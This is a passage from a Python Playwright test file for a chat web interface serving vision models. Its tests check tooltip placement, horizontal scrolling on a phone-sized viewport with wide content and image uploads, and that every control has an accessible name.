    tip, tokens, foot = (page.locator(name).bounding_box() for name in (".tip", ".tokens .token >> nth=-1", ".foot"))
    assert tip["x"] >= tokens["x"] + tokens["width"]
    buttons = page.locator(".foot .tools").bounding_box()
    assert tip["x"] >= buttons["x"] + buttons["width"] or tip["y"] + tip["height"] <= foot["y"]
    heights = page.locator(".tip li").evaluate_all("all => all.map((one) => one.clientHeight)")
    assert len(set(heights)) == 1  # no percentage is wrapped


# ---- the page itself


def test_a_phone_needs_no_sideways_scrolling(open_page: Callable[..., Any], server: StandIn) -> None:
    row = "| " + " | ".join(["a_rather_wide_column"] * 8) + " |"
    server.answers["wide"] = f"{'x' * 400}\n\n{row}\n|{'---|' * 8}\n{row}\n\n```\n{'y' * 400}\n```\n"
    server.models = ["mistralai/Pixtral-12B-2409", "mistralai/Pixtral-12B-2409-of-receipts-and-charts"]
    page = open_page(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True, color_scheme="dark")
    expect(page.get_by_label("Model", exact=True)).to_be_visible()
    fits = "document.documentElement.scrollWidth <= innerWidth && main.scrollWidth <= main.clientWidth"
    assert page.evaluate(fits)
    expect(page.get_by_role("button", name="Camera")).to_be_visible()
    page.locator("#files").set_input_files([image(64, 64, f"{number}.png") for number in range(6)])
    expect(page.locator("#pending .image")).to_have_count(6)
    assert page.evaluate(fits)
    ask(page, "wide answer")
    answer(page)
    assert page.evaluate(fits)
    page.get_by_role("button", name="Settings").click()
    assert page.evaluate(fits)


def test_every_control_has_a_name(page: Any) -> None:
    page.get_by_role("button", name="Settings").click()
    nameless = """[...document.querySelectorAll("button, input:not([hidden]), textarea, select")]
        .filter((one) => !one.labels?.length && !one.getAttribute("aria-label") && !one.textContent.trim()).length"""
    assert page.evaluate(nameless) == 0
